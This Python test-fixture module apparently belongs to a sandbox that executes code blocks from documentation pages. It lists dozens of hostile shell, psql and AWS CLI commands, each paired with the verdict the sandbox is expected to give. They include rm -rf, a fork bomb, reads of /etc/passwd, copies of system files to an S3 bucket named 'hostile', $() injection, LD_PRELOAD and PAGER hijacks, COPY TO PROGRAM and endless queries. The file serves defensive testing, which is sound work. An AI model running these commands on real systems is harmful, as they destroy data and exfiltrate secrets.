"""Blocks that try to harm: what stands in the page, what becomes of it, and what the report says of it.

``{out}`` is a directory beside the lab's own with the file ``canary`` in it; nothing there may change.
"""

from dataclasses import dataclass

NOT_RUN, FAILED, PASSED, ANY = "not-runnable", "failed", "passed", "any"


@dataclass(frozen=True)
class Attack:
    """One block, and its verdict; ``any`` where several are right as long as nothing happens."""

    text: str
    verdict: str
    label: str = "bash"


def shell(text: str, verdict: str = NOT_RUN) -> Attack:
    """Return an attack by a command line."""
    return Attack(f"$ {text}", verdict)


def sql(text: str, verdict: str = NOT_RUN) -> Attack:
    """Return an attack by a statement or a command of psql."""
    return Attack(text, verdict, "sql")


SHELL = (
    shell("rm -rf {out}"),
    shell("touch {out}/made"),
    shell(":(){{ :|:& }};:"),
    shell("echo $(rm -rf {out})"),
    shell("echo `touch {out}/made`"),
    shell('echo "$(touch {out}/made)"'),
    shell("echo x > {out}/canary"),
    shell("echo x >> ../../../../../../../../{out}/canary"),
    shell("cat < /etc/passwd"),
    shell("cat /etc/passwd"),
    shell("head -n 1 ../../../../../../../../etc/passwd"),
    shell("cat ~/.bashrc"),
    shell("grep -r root /etc"),
    shell("ls /etc"),
    shell("sort --compress-program={out}/canary -S 1 x"),
    shell("sort -o {out}/canary /dev/null"),
    shell("tail -f /dev/zero"),
    shell("cat /dev/zero"),
    shell("eval touch {out}/made"),
    shell("bash -c 'touch {out}/made'"),
    shell("sh {out}/canary"),
    shell('python3 -c \'open("{out}/made", "w")\''),
    shell("curl https://example.com/"),
    shell("env touch {out}/made"),
    shell("xargs touch < x"),
    shell("echo hello | tee {out}/made"),
    shell("echo hello | sh"),
    shell("echo hello && rm -rf {out}"),
    shell("echo hello; touch {out}/made"),
    shell("nohup sleep 1000 &"),
    shell("LD_PRELOAD={out}/canary psql -c 'SELECT 1'", ANY),
    shell("PATH={out}:$PATH psql -c 'SELECT 1'", ANY),
    shell("export LD_PRELOAD={out}/canary", ANY),
    shell("PSQLRC={out}/canary psql -c 'SELECT 1'", ANY),
    shell("PAGER='touch {out}/made' psql -c 'SELECT 1'", ANY),
    shell("/tmp/psql -c 'SELECT 1'", ANY),
    shell("ln -s /etc/passwd x"),
    shell("mkdir {out}/made"),
)

PROGRAMS = (
    shell(r"psql -c '\! touch {out}/made'"),
    shell("psql -f /etc/passwd"),
    shell("psql -o '|touch {out}/made' -c 'SELECT 1'"),
    shell("psql -o {out}/canary -c 'SELECT 1'"),
    shell("psql -L {out}/canary -c 'SELECT 1'"),
    shell("psql -c \"COPY (SELECT 1) TO PROGRAM 'touch {out}/made'\"", FAILED),
    shell("psql -h db.example.com -c 'SELECT 1'", ANY),
    shell("psql 'service=x' -c 'SELECT 1'", ANY),
    shell("psql 'host=169.254.169.254 sslkey=/etc/passwd' -c 'SELECT 1'", ANY),
    shell("pg_dump --file={out}/canary"),
    shell("pg_dump -Fd -f {out}/made"),
    shell("pg_restore -f {out}/canary x.dump", ANY),
    shell("pg_dump --schema='$(touch {out}/made)'", FAILED),
)

AWS = (
    shell("aws rds describe-db-instances --endpoint-url https://rds.us-east-1.amazonaws.com", ANY),
    shell("aws --endpoint-url=https://rds.us-east-1.amazonaws.com rds describe-db-instances", ANY),
    shell("AWS_ENDPOINT_URL=https://rds.us-east-1.amazonaws.com aws rds describe-db-instances", ANY),
    shell("AWS_CONFIG_FILE=/etc/passwd aws rds describe-db-instances", ANY),
    shell("export HTTPS_PROXY=http://198.51.100.7:3128", ANY),
    shell("aws ec2 describe-instances", ANY),
    shell("aws sts get-caller-identity --region eu-west-1", ANY),
    shell("aws iam create-policy --policy-name a --policy-document file:///etc/passwd"),
    shell("aws iam create-policy --policy-name b --policy-document fileb:///etc/passwd"),
    shell("aws iam create-policy --policy-name c --policy-document file://../../../../../../etc/passwd"),
    shell("aws iam create-policy --cli-input-json file:///etc/passwd"),
    shell("aws s3 mb s3://hostile", ANY),
    shell("aws s3 cp /etc/passwd s3://hostile/passwd"),
    shell("aws s3 cp ../../../../../../../../etc/passwd s3://hostile/passwd"),
    shell("aws s3 cp ~/.bashrc s3://hostile/rc"),
    shell("aws s3 sync / s3://hostile"),
    shell("aws s3 cp s3://hostile/x {out}/canary"),
    shell("aws s3api get-object --bucket hostile --key x {out}/canary"),
    shell("aws s3api put-object --bucket hostile --key x --body /etc/passwd"),
    shell("aws configure set region x"),
    shell("aws rds describe-db-instances --ca-bundle /etc/passwd", ANY),
)

PSQL = (
    sql(r"\! touch {out}/made"),
    sql(r"SELECT 1 \! touch {out}/made"),
    sql(r"\o |touch {out}/made"),
    sql(r"\o {out}/canary"),
    sql(r"SELECT 1 \g |touch {out}/made"),
    sql(r"SELECT 1 \g {out}/canary"),
    sql(r"\set x `touch {out}/made`"),
    sql(r"\echo `cat /etc/passwd`"),
    sql(r"\i /etc/passwd"),
    sql(r"\ir ../../../../../etc/passwd"),
    sql(r"\copy (SELECT 1) TO PROGRAM 'touch {out}/made'"),
    sql(r"\copy (SELECT 1) TO '{out}/canary'"),
    sql(r"\copy pg_class FROM '/etc/passwd'"),
    sql(r"\setenv PAGER 'touch {out}/made'"),
    sql(r"\s {out}/canary"),
    sql(r"\w {out}/canary"),
    sql(r"\cd /"),
    sql(r"\e"),
    sql(r"\password"),
    sql(r"\prompt 'Say ' x"),
    sql(r"\lo_export 1 '{out}/canary'"),
    sql(r"\pset pager 'touch {out}/made'", ANY),
    sql("COPY (SELECT 1) TO PROGRAM 'touch {out}/made';", FAILED),
    sql("COPY (SELECT 1) TO '{out}/canary';", FAILED),
    sql("SELECT pg_read_file('/etc/passwd');", FAILED),
    sql("SELECT lo_import('/etc/passwd');", FAILED),
    sql("CREATE FUNCTION hurt() RETURNS int LANGUAGE c AS '{out}/canary';", FAILED),
    sql("DO $$ BEGIN EXECUTE 'COPY (SELECT 1) TO PROGRAM ''touch {out}/made'''; END $$;", FAILED),
    sql(r"\c postgres nobody 198.51.100.7 5432", ANY),
)

#: What does not end, or does not stop talking; they run with a short time limit.
ENDLESS = (
    sql("SELECT pg_sleep(1000000);", FAILED),
    sql("DO $$ BEGIN LOOP END LOOP; END $$;", FAILED),
    sql("SELECT repeat('x', 1000000) FROM generate_series(1, 100000);", FAILED),
    sql("SELECT 1 \\watch 1", ANY),
    shell("sleep 1000000", ANY),
    shell("psql -c 'SELECT pg_sleep(1000000)'", FAILED),
    shell("psql -Atc \"SELECT repeat('x', 1000000) FROM generate_series(1, 100000)\"", FAILED),
    sql("SELECT 'still here' AS told;", PASSED),
)


def page(attacks: tuple[Attack, ...], out: str, title: str = "Do not try this") -> str:
    """Return a page of attacks, one block each."""
    parts = [f"# {title}\n"]
    for number, one in enumerate(attacks, 1):
        text = one.text.format(out=out) if "{" in one.text else one.text
        parts.append(f"{number}. Step {number}.\n\n   ```{one.label}\n   {text}\n   ```\n")
    return "\n".join(parts)
